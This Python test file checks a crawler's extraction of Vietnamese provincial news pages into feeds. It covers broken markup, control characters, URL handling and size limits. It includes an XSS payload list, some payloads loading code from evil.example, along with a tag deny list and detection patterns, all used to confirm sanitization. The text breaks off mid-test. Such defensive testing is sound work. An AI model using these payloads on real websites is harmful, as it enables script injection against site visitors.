"""Hostile and broken pages (DESIGN.md: "Bad input of any kind gets a clear logged error or a
cleaned value, never a crashed run and never an invalid feed").

Extraction is exercised through the platforms (`platform.extract` on a `Page`) and the item
pipelines; what only a crawl can show (size limits, HTTP errors, non-HTML answers, pages that
vanish) goes through the real spider in child processes against PortalServer on 127.0.0.1.
"""

from __future__ import annotations

import json
import random
import re
import sqlite3
from pathlib import Path
from urllib.parse import urlsplit

import feedparser
import lxml.etree
import lxml.html
import pytest

from crawler.clock import parse_iso
from crawler.extract.article import Extracted
from crawler.items import Article
from crawler.pipelines.normalize import NormalizePipeline
from crawler.pipelines.validate import rejection_reason
from crawler.platforms import get_platform
from crawler.platforms.base import Page, Platform
from crawler.registry import Selectors
from crawler.samples import Route
from crawler.store import open_readonly, open_store
from crawler.store.queries import feed_items
from crawler.store.writer import ArticleWriter
from crawler.textnorm import strip_illegal
from feeds.catalog import FeedSpec
from feeds.render import render
from tests.conftest import Site

UPLOAD = get_platform("upload-cms")
GENERIC = get_platform("generic")
PLATFORMS = [pytest.param(UPLOAD, id="upload-cms"), pytest.param(GENERIC, id="generic")]

URL = "https://thanhhoa.gov.vn/tin-tuc/tin-tong-hop/hoi-nghi-so-ket-chuyen-doi-so.html"
TITLE = "Hội nghị sơ kết công tác chuyển đổi số quý II năm 2026"
P1 = (
    "Sáng 10/6, UBND tỉnh tổ chức hội nghị sơ kết công tác chuyển đổi số quý II năm 2026, đánh "
    "giá kết quả triển khai các nhiệm vụ trọng tâm và đề ra giải pháp trong thời gian tới."
)
P2 = (
    "Chiều cùng ngày, đoàn công tác đã kiểm tra thực tế tại một số xã vùng sâu, vùng xa của tỉnh "
    "và ghi nhận nhiều kết quả tích cực trong cung cấp dịch vụ công trực tuyến."
)
DATE = "10/06/2026 08:30"
FETCHED = "2026-06-10T10:00:00+07:00"
NOW = parse_iso("2026-06-10T12:00:00+07:00")


def article_page(body: str, *, title: str = TITLE, head: str = "", extra: str = "") -> str:
    """An article page as the upload-cms family prints it (the generic platform reads it too)."""
    return (
        f"<html><head><meta charset='utf-8'><title>{title}</title>{head}</head><body>"
        f"<div class='header'><a href='/'>Trang chủ</a></div>"
        f"<h1 class='article-title'>{title}</h1><span class='post-date'>{DATE}</span>{extra}"
        f"<div class='article-content'>{body}</div>"
        f"<div class='footer'>Cổng thông tin điện tử tỉnh Thanh Hóa</div></body></html>"
    )


def extract(platform: Platform, html: str, url: str = URL) -> Extracted:
    return platform.extract(
        Page(url, html), platform.selectors(Selectors()), reference=parse_iso(FETCHED)
    )


def to_article(e: Extracted, url: str = URL) -> Article:
    """The extracted fields as the spider hands them over, through the normalize pipeline."""
    item = Article(
        source_id="thanh-hoa",
        province="thanh-hoa",
        province_then="thanh-hoa",
        url=url,
        urls=[url],
        title=e.title,
        summary=e.summary,
        content_html=e.body.html,
        content_text=e.body.text,
        author=e.author,
        published=e.published.isoformat() if e.published else None,
        published_source=e.published_source,
        image_url=e.image_url,
        attachments=e.body.attachments,
        fetched_at=FETCHED,
    )
    normalized = NormalizePipeline().process_item(item)
    assert isinstance(normalized, Article)
    return normalized


# -- what safe article HTML is ------------------------------------------------------------------

DANGEROUS_TAGS = (
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "style",
    "svg",
    "math",
    "meta",
    "base",
    "link",
    "form",
    "input",
    "button",
    "template",
    "noscript",
)
_DANGEROUS_TAG = re.compile(r"<\s*/?\s*(" + "|".join(DANGEROUS_TAGS) + r")\b", re.IGNORECASE)
_HANDLER_ATTR = re.compile(r"<[^>]*\son[a-z]+\s*=", re.IGNORECASE)
_QUOTED = re.compile(r'"[^"]*"|\'[^\']*\'')
_URL_ATTR = re.compile(r"""\s(href|src)\s*=\s*["']?([^"'\s>]*)""", re.IGNORECASE)


def assert_safe_html(html: str) -> None:
    assert not _DANGEROUS_TAG.search(html), html
    assert not _HANDLER_ATTR.search(_QUOTED.sub('""', html)), html  # outside attribute values
    for _, value in _URL_ATTR.findall(html):
        assert value.startswith(("http://", "https://", "mailto:")), (value, html)
    assert not re.search(r"(java|vb)script\s*:|data\s*:\s*text/html", html, re.I), html
    if not html.strip():
        return
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        assert el.tag not in DANGEROUS_TAGS, (el.tag, html)
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (name, html)
            assert name.lower() not in {"style", "srcset", "formaction", "action"}, (name, html)
            if name.lower() in {"href", "src"}:
                parts = urlsplit(value)
                assert parts.scheme in {"http", "https", "mailto"}, (value, html)
                if parts.scheme != "mailto":
                    assert parts.netloc, (value, html)


# -- broken and truncated markup ------------------------------------------------------------------

BROKEN = {
    "unclosed-tags": (
        f"<p>{P1}<p>{P2}<div><b>Thông báo <i>kèm theo</div>",
        [P1, P2, "Thông báo kèm theo"],
    ),
    "cut-mid-body": (f"<p>{P1}</p><p>{P2[:69]}", [P1, P2[:69]]),
    "cut-inside-a-tag": (f'<p>{P1}</p><p>{P2}</p><img src="/upload/20260610/an', [P1, P2]),
    "cut-inside-an-entity": (f"<p>{P1}</p><p>{P2} &nbs", [P1, P2]),
    "stray-closers-inside": (
        f"</span><p>{P1}</font></b></p></td></tr><p>{P2}</em></p>",
        [P1, P2],
    ),
    "p-in-table-without-rows": (f"<table><p>{P1}</p><p>{P2}</p></table>", [P1, P2]),
    "td-without-table": (f"<td>{P1}</td><td>{P2}</td>", [P1, P2]),
    "nested-unclosed-lists": (f"<ul><li>{P1}<li>{P2}<ul><li>Mục con</ul>", [P1, P2, "Mục con"]),
}


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("case", list(BROKEN))
def test_broken_markup_is_extracted_without_error(platform: Platform, case: str) -> None:
    body, expected = BROKEN[case]
    html = article_page(body)
    if case.startswith("cut"):
        html = html[: html.index("<div class='footer'>")]
        html = html[: -len("</div>")] if html.endswith("</div>") else html
    e = extract(platform, html)
    assert e.title == TITLE
    for text in expected:
        assert any(text in block for block in e.body.blocks), (text, e.body.blocks)
    if (case, platform.name) != ("td-without-table", "generic"):
        # (cells outside a table leave the generic platform no container: it takes the page)
        assert "Trang chủ" not in e.body.text and "Cổng thông tin" not in e.body.text
    assert_safe_html(e.body.html)
    assert rejection_reason(to_article(e)) is None


@pytest.mark.parametrize("platform", PLATFORMS)
def test_stray_closing_divs_around_the_article(platform: Platform) -> None:
    html = (
        "</div></div><html><head><title>" + TITLE + "</title></head></div><body></div>"
        f"<h1 class='article-title'>{TITLE}</h1></div></div><span class='post-date'>{DATE}</span>"
        f"<div class='article-content'><p>{P1}</p><p>{P2}</p></div></div></div>"
        "</body></html></div></p>"
    )
    e = extract(platform, html)
    assert e.title == TITLE
    assert e.body.blocks == [P1, P2]
    assert e.published is not None and e.published.isoformat() == "2026-06-10T08:30:00+07:00"


def test_a_page_cut_before_its_body_gives_a_clear_rejection() -> None:
    html = article_page(f"<p>{P1}</p>")
    cut = html[: html.index("<div class='article-content'>")]
    e = extract(UPLOAD, cut)
    assert e.title == TITLE
    assert e.body.text == ""
    assert rejection_reason(to_article(e)) == "no_body"


# -- missing fields -------------------------------------------------------------------------------

NO_TITLE = (
    f"<html><head></head><body><div class='article-content'><p>{P1}</p><p>{P2}</p></div>"
    "</body></html>"
)
BLANK_TITLE = (
    "<html><head><title> \n </title></head><body><h1 class='article-title'>&nbsp;</h1>"
    f"<div class='article-content'><p>{P1}</p></div></body></html>"
)
NO_DATE = (
    f"<html><head><title>{TITLE}</title></head><body><h1 class='article-title'>{TITLE}</h1>"
    f"<div class='article-content'><p>{P1}</p><p>{P2}</p></div></body></html>"
)
NO_BODY = (
    f"<html><head><title>{TITLE}</title></head><body><h1 class='article-title'>{TITLE}</h1>"
    f"<span class='post-date'>{DATE}</span></body></html>"
)
EMPTY_BODY = article_page("<p>&nbsp;</p><p><br></p><script>var luotXem = 12;</script>")
SHORT_BODY = article_page("<p>Đang cập nhật nội dung.</p>")


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize(
    ("html", "reason"),
    [
        pytest.param(NO_TITLE, "no_title", id="no-title-element"),
        pytest.param(BLANK_TITLE, "no_title", id="blank-title"),
        pytest.param(NO_BODY, "no_body", id="no-body"),
        pytest.param("", "no_title", id="empty-document"),
        pytest.param("   \n\t ", "no_title", id="whitespace-document"),
        pytest.param("Service Unavailable", "no_title", id="plain-text"),
        pytest.param("<html><body></body></html>", "no_title", id="empty-html"),
    ],
)
def test_missing_fields_are_empty_and_rejected_with_a_reason(
    platform: Platform, html: str, reason: str
) -> None:
    e = extract(platform, html)
    article = to_article(e)
    assert rejection_reason(article) == reason
    if reason == "no_title":
        assert e.title == "" and article.title == ""
    if reason == "no_body":
        assert e.body.html == "" and e.body.blocks == [] and article.content_text == ""
        assert e.title == TITLE


def test_an_empty_body_is_rejected_as_no_body() -> None:
    e = extract(UPLOAD, EMPTY_BODY)
    assert e.title == TITLE
    assert (e.body.html, e.body.blocks) == ("", [])
    assert rejection_reason(to_article(e)) == "no_body"


FOOTER = (
    "<div class='footer'><p>Cơ quan chủ quản: Ủy ban nhân dân tỉnh Thanh Hóa. Địa chỉ: 35 Đại lộ "
    "Lê Lợi, phường Hạc Thành, tỉnh Thanh Hóa. Điện thoại: 0237.3852.345. Giấy phép số "
    "12/GP-TTĐT do Cục Phát thanh, truyền hình và thông tin điện tử cấp.</p></div>"
)


def test_generic_does_not_take_the_footer_for_an_empty_body() -> None:
    html = (
        f"<html><head><title>{TITLE}</title></head><body><div class='header'>"
        f"<a href='/'>Trang chủ</a></div><h1 class='article-title'>{TITLE}</h1>"
        f"<span class='post-date'>{DATE}</span><div class='article-content'><p>&nbsp;</p>"
        f"</div>{FOOTER}</body></html>"
    )
    e = extract(GENERIC, html)
    assert "Cơ quan chủ quản" not in e.body.text
    assert rejection_reason(to_article(e)) == "no_body"


def test_a_short_body_is_rejected_as_too_short() -> None:
    e = extract(UPLOAD, SHORT_BODY)
    assert e.title == TITLE
    assert e.body.text == "Đang cập nhật nội dung."
    assert rejection_reason(to_article(e)) == "body_too_short"


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_missing_date_is_none_and_not_a_rejection(platform: Platform) -> None:
    e = extract(platform, NO_DATE)
    assert e.published is None and e.published_source is None
    assert e.title == TITLE and e.body.blocks == [P1, P2]
    article = to_article(e)
    assert article.published is None
    assert rejection_reason(article) is None


# -- control characters and invisible characters --------------------------------------------------

ILLEGAL = ["\x00", "\x0b", "\x1b", "\x01", "\x7f", "\ufffe", "\uffff", "\ud800", "\udfff"]
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"]


def _sprinkle(text: str, chars: list[str]) -> str:
    """Put one of `chars` after every space of `text` (in turn)."""
    words = text.split(" ")
    return "".join(w + " " + chars[i % len(chars)] for i, w in enumerate(words[:-1])) + words[-1]


def _dirty_page() -> str:
    dirty_title = _sprinkle(TITLE, ILLEGAL + INVISIBLE)
    return (
        f"<html><head><title>{dirty_title}</title>"
        f"<meta property='og:title' content='{dirty_title}'></head><body>"
        f"<h1 class='article-title'>{dirty_title}</h1>"
        f"<span class='post-date'>10/06/2026\x00 08:30</span>"
        f"<div class='article-brief'>{_sprinkle(P2, INVISIBLE + ILLEGAL)}</div>"
        f"<div class='article-content'><p>{_sprinkle(P1, ILLEGAL + INVISIBLE)}</p>"
        f"<p>{_sprinkle(P2, ILLEGAL)}</p>"
        f"<p><img src='/upload/2026/anh\x00-hoi-nghi.jpg' alt='Ảnh\x0b hội\u200b nghị'></p>"
        f"<p><em>Quang\x1b cảnh\u200b hội\ufffe nghị</em></p>"
        f"<p>Tác giả: Nguyễn\x00 Văn\u200b An\x1b\u2060</p></div></body></html>"
    )


def _stored_fields(article: Article) -> dict[str, str]:
    return {
        "title": article.title,
        "summary": article.summary,
        "content_html": article.content_html,
        "content_text": article.content_text,
        "author": article.author or "",
        "image_url": article.image_url or "",
    }


@pytest.mark.parametrize("platform", PLATFORMS)
def test_control_characters_are_stripped_from_every_stored_field(platform: Platform) -> None:
    e = extract(platform, _dirty_page())
    article = to_article(e)
    fields = _stored_fields(article)
    for name, value in fields.items():
        assert strip_illegal(value) == value, (name, value)
        assert not any(ch in value for ch in ILLEGAL), (name, value)
    for name in ("title", "summary", "content_text", "author"):
        assert not any(ch in fields[name] for ch in INVISIBLE), (name, fields[name])
    assert article.title == TITLE
    assert article.author == "Nguyễn Văn An"
    assert P1 in article.content_text and P2 in article.content_text
    assert "Quang cảnh hội nghị" in article.content_html
    assert rejection_reason(article) is None


def test_zero_width_characters_are_stripped_from_content_html() -> None:
    article = to_article(extract(UPLOAD, _dirty_page()))
    assert not any(ch in article.content_html for ch in INVISIBLE), repr(article.content_html)


def test_a_dirty_article_makes_a_valid_atom_feed(tmp_path: Path) -> None:
    article = to_article(extract(UPLOAD, _dirty_page()))
    assert rejection_reason(article) is None
    db = open_store(tmp_path / "store.db")
    ArticleWriter(db).write_batch([article])
    db.close()
    db = open_readonly(tmp_path / "store.db")
    items = feed_items(db, now=NOW, province="thanh-hoa")
    db.close()
    assert len(items) == 1
    for field in ("title", "summary", "content_html", "content_text", "author"):
        value = str(items[0].article[field] or "")
        assert strip_illegal(value) == value, (field, value)
    data = render(
        FeedSpec("province/thanh-hoa", province="thanh-hoa"),
        items,
        "atom",
        base_url="http://feeds.test/",
        fallback_updated="2026-01-01T00:00:00+07:00",
    )
    root = lxml.etree.fromstring(data)  # raises on any XML-illegal character
    ns = {"a": "http://www.w3.org/2005/Atom"}
    assert root.findtext("a:entry/a:title", namespaces=ns) == TITLE
    assert root.findtext("a:entry/a:author/a:name", namespaces=ns) == "Nguyễn Văn An"
    parsed = feedparser.parse(data)
    assert parsed.bozo == 0, parsed.get("bozo_exception")
    assert len(parsed.entries) == 1
    entry = parsed.entries[0]
    assert entry.title == TITLE
    assert f"<p>{P2}</p>" in entry.content[0].value


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("ref", ["&#0;", "&#xD800;", "&#x85;", "&#xFFFE;", "&#1;", "&#x1b;"])
def test_character_references_to_illegal_characters_in_the_title(
    platform: Platform, ref: str
) -> None:
    title = f"Hội nghị{ref} sơ kết chuyển đổi số quý II"
    e = extract(platform, article_page(f"<p>{P1}</p><p>{P2}</p>", title=title))
    article = to_article(e)
    assert strip_illegal(article.title) == article.title
    assert article.title.startswith("Hội nghị")
    assert article.title.endswith(" sơ kết chuyển đổi số quý II")


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("ref", ["&#11;", "&#1;", "&#x1b;", "&#xFFFE;"])
@pytest.mark.parametrize(
    "removed",
    ["<!--[if gte mso 9]><xml></xml><![endif]-->", "<script>var a = 1;</script>"],
)
def test_character_references_after_removed_elements_do_not_crash(
    platform: Platform, ref: str, removed: str
) -> None:
    body = f"<p>{P1}</p><p>{removed}Dòng một{ref}dòng hai. {P2}</p>"
    e = extract(platform, article_page(body))
    assert "Dòng mộtdòng hai." in e.body.text or "Dòng một dòng hai." in e.body.text
    assert strip_illegal(e.body.html) == e.body.html


# -- script injection ----------------------------------------------------------------------------

INJECTIONS = {
    "script": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-attr-spacing": '<script\ttype="text/javascript"\n>alert(1)</script >',
    "img-onerror": "<img src=x onerror=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "p-handlers": "<p onclick='a()' onmouseover='b()' onfocus='c()' tabindex=1>nhấn</p>",
    "a-onclick": "<a href='https://thanhhoa.gov.vn/' onclick='alert(1)'>trang</a>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "javascript-href": "<a href='javascript:alert(1)'>xem</a>",
    "javascript-mixed-case": "<a href='JaVaScRiPt:alert(1)'>xem</a>",
    "javascript-leading-space": "<a href=' \tjavascript:alert(1)'>xem</a>",
    "javascript-entities": "<a href='&#106;avascript&#58;alert(1)'>xem</a>",
    "javascript-colon-entity": "<a href='javascript&colon;alert(1)'>xem</a>",
    "vbscript-href": "<a href='vbscript:msgbox(1)'>xem</a>",
    "data-html-href": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "javascript-img": "<img src='javascript:alert(1)'>",
    "data-img": "<img src='data:text/html,<script>alert(1)</script>'>",
    "iframe": "<iframe src='https://evil.example/'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='https://evil.example/x.swf' type='application/x-shockwave-flash'>"
    "<param name=x value=y></object>",
    "embed": "<embed src='https://evil.example/x.swf'>",
    "meta-refresh": "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "base-href": "<base href='javascript:alert(1)//'>",
    "link-import": "<link rel=import href='https://evil.example/x.html'>",
    "style-element": "<style>body{background:url(javascript:alert(1))}</style>",
    "style-attr": "<p style='background:url(javascript:alert(1))'>nền</p>",
    "svg-onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "svg-script": "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>s</a></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "srcset": "<img srcset='javascript:alert(1) 1x, https://evil.example/a.jpg 2x' src='/a.jpg'>",
    "comment-script": "<!--<script>alert(1)</script>-->",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "comment-breakout": "<!--><script>alert(1)</script>-->",
    "form-action": "<form action='javascript:alert(1)'><button formaction=javascript:a()>b</button>"
    "</form>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><img src=x onerror=alert(1)></noscript>",
    "alt-breakout": "<img src='/a.jpg' alt='\"><script>alert(1)</script>'>",
    "frameset": "<frameset><frame src='javascript:alert(1)'></frameset>",
}


# Payloads left open on purpose: what follows them is inside them (the mXSS <style> swallows the
# rest of the page in a browser too; libxml2 does not know <embed> is void).
SWALLOWING = {"math", "embed"}


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("case", list(INJECTIONS))
def test_script_injection_does_not_survive_in_the_body(platform: Platform, case: str) -> None:
    body = f"<p>{P1}</p>{INJECTIONS[case]}<p>{P2}</p>"
    e = extract(platform, article_page(body))
    assert_safe_html(e.body.html)
    assert P1 in e.body.text
    if case not in SWALLOWING:
        assert P2 in e.body.text
    assert "alert(1)</script>" not in e.body.text


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize(
    "embed",
    [
        "<embed src='/video/hoi-nghi.swf' width=400 height=300>",
        "<embed type='application/x-shockwave-flash' src='/video/hoi-nghi.swf'>",
    ],
)
def test_text_after_a_bare_embed_is_kept(platform: Platform, embed: str) -> None:
    e = extract(platform, article_page(f"<p>{P1}</p>{embed}<p>{P2}</p>"))
    assert e.body.blocks == [P1, P2]


@pytest.mark.parametrize(
    "href", ["java&#x09;script:alert(1)", "jav&#x0A;ascript:alert(1)", "jav&#x0D;ascript:alert(1)"]
)
@pytest.mark.parametrize("tag", ["a", "img"])
def test_javascript_url_with_whitespace_in_the_scheme_is_dropped(href: str, tag: str) -> None:
    element = f"<a href='{href}'>xem</a>" if tag == "a" else f"<img src='{href}'>"
    e = extract(UPLOAD, article_page(f"<p>{P1}</p><p>{element} {P2}</p>"))
    assert_safe_html(e.body.html)


@pytest.mark.parametrize(
    "href", ["&#14;javascript:alert(1)", "&#1;mailto:banbientap@thanhhoa.gov.vn"]
)
@pytest.mark.parametrize("tag", ["a", "img"])
def test_url_with_a_control_character_reference_does_not_crash(href: str, tag: str) -> None:
    element = f"<a href='{href}'>xem</a>" if tag == "a" else f"<img src='{href}'>"
    e = extract(UPLOAD, article_page(f"<p>{P1}</p><p>{element} {P2}</p>"))
    assert_safe_html(e.body.html)
    assert P2 in e.body.text


HOSTILE_TITLE = (
    "Hội nghị <script>alert(1)</script>sơ kết <img src=x onerror=alert(1)>"
    "<svg onload=alert(1)></svg>chuyển đổi số"
)


@pytest.mark.parametrize("platform", PLATFORMS)
def test_script_injection_in_title_author_and_captions(platform: Platform) -> None:
    body = (
        f"<p>{P1}</p>"
        "<p style='text-align:center'><img src='/upload/2026/hoi-nghi.jpg' onerror='alert(1)' "
        "onload=alert(2) alt='\" onmouseover=\"alert(3)'></p>"
        "<p style='text-align:center'><em>Quang cảnh hội nghị<script>alert(1)</script>"
        "<b onclick='alert(2)'> sơ kết</b><iframe src=javascript:alert(3)></iframe></em></p>"
        f"<p>{P2}</p>"
        "<p>Tác giả: <script>alert(1)</script>Nguyễn <b onmouseover=alert(2)>Văn</b> An"
        "<img src=x onerror=alert(3)></p>"
    )
    html = (
        f"<html><head><title>Hội nghị sơ kết chuyển đổi số</title></head><body>"
        f"<h1 class='article-title'>{HOSTILE_TITLE}</h1><span class='post-date'>{DATE}</span>"
        f"<div class='article-content'>{body}</div></body></html>"
    )
    e = extract(platform, html)
    article = to_article(e)
    assert article.title == "Hội nghị sơ kết chuyển đổi số"
    assert article.author == "Nguyễn Văn An"
    assert e.body.images == [
        ("https://thanhhoa.gov.vn/upload/2026/hoi-nghi.jpg", "Quang cảnh hội nghị sơ kết")
    ]
    assert_safe_html(article.content_html)
    assert "<figcaption>Quang cảnh hội nghị sơ kết</figcaption>" in article.content_html
    for value in (article.title, article.author or "", article.content_text):
        assert "alert" not in value and "<" not in value, value


def test_an_image_captioned_anh_keeps_its_image() -> None:
    body = (
        f"<p>{P1}</p><p><img src='/upload/2026/hoi-nghi.jpg'><br><em>Ảnh: Quang cảnh hội nghị"
        f"</em></p><p>{P2}</p>"
    )
    e = extract(UPLOAD, article_page(body))
    assert [src for src, _ in e.body.images] == ["https://thanhhoa.gov.vn/upload/2026/hoi-nghi.jpg"]


# -- relative URLs ---------------------------------------------------------------------------------

PAGE_URL = "https://thanhhoa.gov.vn/tin-tuc/tin-tong-hop/hoi-nghi.html?id=3"


@pytest.mark.parametrize("platform", PLATFORMS)
def test_relative_and_protocol_relative_urls_become_absolute(platform: Platform) -> None:
    body = (
        f"<p>{P1} <a href='../img/a.jpg'>ảnh một</a>, <a href='/upload/x.jpg'>ảnh hai</a>, "
        "<a href='//cdn.example.vn/a.jpg'>ảnh ba</a>, <a href='?id=5'>bài năm</a>, "
        "<a href='#muc-2'>mục 2</a>, <a href='  chi-tiet.html '>chi tiết</a>, "
        "<a href='mailto:banbientap@thanhhoa.gov.vn'>thư</a>.</p>"
        "<p><img src='../img/b.jpg'></p><p><img src='//cdn.example.vn/c.jpg'></p>"
        f"<p><img src='/upload/d.jpg'></p><p>{P2} <a href='../../files/qd-12.pdf'>qd-12.pdf</a></p>"
    )
    e = extract(platform, article_page(body), url=PAGE_URL)
    root = lxml.html.fragment_fromstring(e.body.html, create_parent="div")
    hrefs = {a.text_content(): a.get("href") for a in root.iter("a")}
    assert hrefs == {
        "ảnh một": "https://thanhhoa.gov.vn/tin-tuc/img/a.jpg",
        "ảnh hai": "https://thanhhoa.gov.vn/upload/x.jpg",
        "ảnh ba": "https://cdn.example.vn/a.jpg",
        "bài năm": "https://thanhhoa.gov.vn/tin-tuc/tin-tong-hop/hoi-nghi.html?id=5",
        "mục 2": None,  # an in-page anchor means nothing in a feed: the href is dropped
        "chi tiết": "https://thanhhoa.gov.vn/tin-tuc/tin-tong-hop/chi-tiet.html",
        "thư": "mailto:banbientap@thanhhoa.gov.vn",
        "qd-12.pdf": "https://thanhhoa.gov.vn/files/qd-12.pdf",
    }
    assert [src for src, _ in e.body.images] == [
        "https://thanhhoa.gov.vn/tin-tuc/img/b.jpg",
        "https://cdn.example.vn/c.jpg",
        "https://thanhhoa.gov.vn/upload/d.jpg",
    ]
    assert [a.url for a in e.body.attachments] == ["https://thanhhoa.gov.vn/files/qd-12.pdf"]
    assert_safe_html(e.body.html)
    assert e.image_url == "https://thanhhoa.gov.vn/tin-tuc/img/b.jpg"


def test_relative_og_image_becomes_absolute() -> None:
    head = "<meta property='og:image' content='/upload/2026/og.jpg'>"
    e = extract(UPLOAD, article_page(f"<p>{P1}</p><p>{P2}</p>", head=head), url=PAGE_URL)
    assert e.image_url == "https://thanhhoa.gov.vn/upload/2026/og.jpg"


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_malformed_link_in_the_body_does_not_crash(platform: Platform) -> None:
    body = f"<p>{P1} <a href='http://[::1'>liên kết hỏng</a></p><p>{P2}</p>"
    e = extract(platform, article_page(body))
    assert P1 in e.body.text and P2 in e.body.text
    assert_safe_html(e.body.html)


LIST_URL = "https://thanhhoa.gov.vn/tin-tuc/tin-tong-hop"


def _list_item(href: str, title: str) -> str:
    return (
        f"<article class='article-news-default'><a class='article-title' href='{href}'>{title}</a>"
        "<span class='article-date'>10/06/2026</span></article>"
    )


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_malformed_link_on_a_list_page_does_not_lose_the_others(platform: Platform) -> None:
    html = (
        "<html><body><div class='news'>"
        + _list_item("/tin-tuc/tin-tong-hop/hoi-nghi-so-ket.html", "Hội nghị sơ kết chuyển đổi số")
        + _list_item("http://[::1", "Bài có đường dẫn hỏng trên trang danh sách")
        + "</div></body></html>"
    )
    result = platform.parse_list(Page(LIST_URL, html), platform.selectors(Selectors()))
    assert result.entries is not None
    assert "https://thanhhoa.gov.vn/tin-tuc/tin-tong-hop/hoi-nghi-so-ket.html" in [
        e.url for e in result.entries
    ]


# -- crawls: size limit, HTTP errors, non-HTML answers ---------------------------------------------

CRAWL_NOW = "2026-06-10T10:00:00+07:00"


def _source_toml(source_id: str, base: str, section: str, province: str = "thanh-hoa") -> str:
    return f"""
[[source]]
id = "{source_id}"
province = "{province}"
name = "Cổng thử nghiệm {source_id}"
homepage = "{base}/"
platform = "upload-cms"
[[source.section]]
url = "{base}{section}"
"""


def _list_page(entries: list[tuple[str, str]]) -> str:
    return (
        "<html><head><meta charset='utf-8'><title>Tin tổng hợp</title></head><body>"
        + "".join(_list_item(path, title) for path, title in entries)
        + "</body></html>"
    )


def _crawl_article(title: str, paragraphs: int = 3) -> str:
    text = "".join(f"<p>{P1} ({title}, đoạn {i + 1}).</p>" for i in range(paragraphs))
    return article_page(text, title=title)


def _runs(db: Path, source_id: str) -> list[tuple[str, int, int, str | None, dict[str, object]]]:
    con = sqlite3.connect(db)
    rows = con.execute(
        "SELECT status, errors, dropped, message, stats FROM crawl_runs WHERE source_id = ? "
        "ORDER BY id",
        (source_id,),
    ).fetchall()
    con.close()
    return [(s, e, d, m, json.loads(st or "{}")) for s, e, d, m, st in rows]


def _query(db: Path, sql: str, *params: object) -> list[tuple[object, ...]]:
    con = sqlite3.connect(db)
    rows = con.execute(sql, params).fetchall()
    con.close()
    return rows


@pytest.mark.slow
def test_a_page_over_the_size_limit_is_recorded_and_stores_nothing(fresh_site: Site) -> None:
    server = fresh_site.servers["hungyen"]
    base = server.base_url
    good = [
        ("/big/hoi-nghi-chuyen-doi-so.html", "Hội nghị chuyển đổi số của tỉnh năm 2026"),
        ("/big/ky-thi-tot-nghiep.html", "Tổ chức kỳ thi tốt nghiệp trung học phổ thông"),
    ]
    big = ("/big/bao-cao-rat-dai.html", "Báo cáo tổng kết rất dài của các sở ngành")
    server.add_route(Route(path="/big-list", body=_list_page([good[0], big, good[1]])))
    for path, title in good:
        server.add_route(Route(path=path, body=_crawl_article(title)))
    big_html = _crawl_article(big[1], paragraphs=400)
    assert len(big_html.encode("utf-8")) > 100_000
    server.add_route(Route(path=big[0], body=big_html))
    (fresh_site.sources_dir / "big.toml").write_text(
        _source_toml("big-portal", base, "/big-list"), encoding="utf-8"
    )

    outcome = fresh_site.crawl(["big-portal"], now=CRAWL_NOW, max_page_bytes=20_000)[0]

    assert (outcome.status, outcome.new, outcome.errors) == ("partial", 2, 1)
    [(status, errors, _, message, stats)] = _runs(fresh_site.db, "big-portal")
    assert (status, errors) == ("partial", 1)
    assert message is not None
    assert f"{base}{big[0]}" in message
    assert "larger than download max size (20000)" in message
    assert stats["error_kinds"] == {"article": 1}
    stored = {u for (u,) in _query(fresh_site.db, "SELECT url FROM articles")}
    assert stored == {fresh_site.url("hungyen", path) for path, _ in good}
    # Nothing of the big page: no article, no URL, no raw page.
    like = f"%{big[0]}"
    assert _query(fresh_site.db, "SELECT count(*) FROM article_urls WHERE url LIKE ?", like) == [
        (0,)
    ]
    assert _query(fresh_site.db, "SELECT count(*) FROM raw_pages WHERE url LIKE ?", like) == [(0,)]
    assert _query(fresh_site.db, "SELECT count(*) FROM raw_pages") == [(2,)]


VNI_ARTICLE = (
    "<html><head><title>Hoäi nghò sô keát</title></head><body>"
    "<h1 class='article-title'>Hoäi nghò sô keát chuyeån ñoåi soá</h1>"
    "<div class='article-content'><p>Saùng nay, UBND tænh toå chöùc hoäi nghò sô keát coâng taùc "
    "chuyeån ñoåi soá quyù I naêm 2023 vaø ñeà ra giaûi phaùp trong thôøi gian tôùi.</p></div>"
    "</body></html>"
)


@pytest.mark.slow
def test_broken_answers_are_counted_with_a_reason_and_others_land(
    fresh_site: Site, tmp_path: Path
) -> None:
    server = fresh_site.servers["hungyen"]
    base = server.base_url
    rng = random.Random(20260610)
    noise = bytes(rng.randrange(256) for _ in range(40_000))
    (tmp_path / "noise.bin").write_bytes(noise)
    (tmp_path / "vni.html").write_bytes(VNI_ARTICLE.encode("latin-1"))
    entries = {
        "good": ("/loi/bai-tot.html", "Bài viết bình thường về chuyển đổi số"),
        "http500": ("/loi/may-chu-loi.html", "Bài viết mà máy chủ trả lỗi 500"),
        "image": ("/loi/anh-jpeg.html", "Bài viết thực ra là một tấm ảnh"),
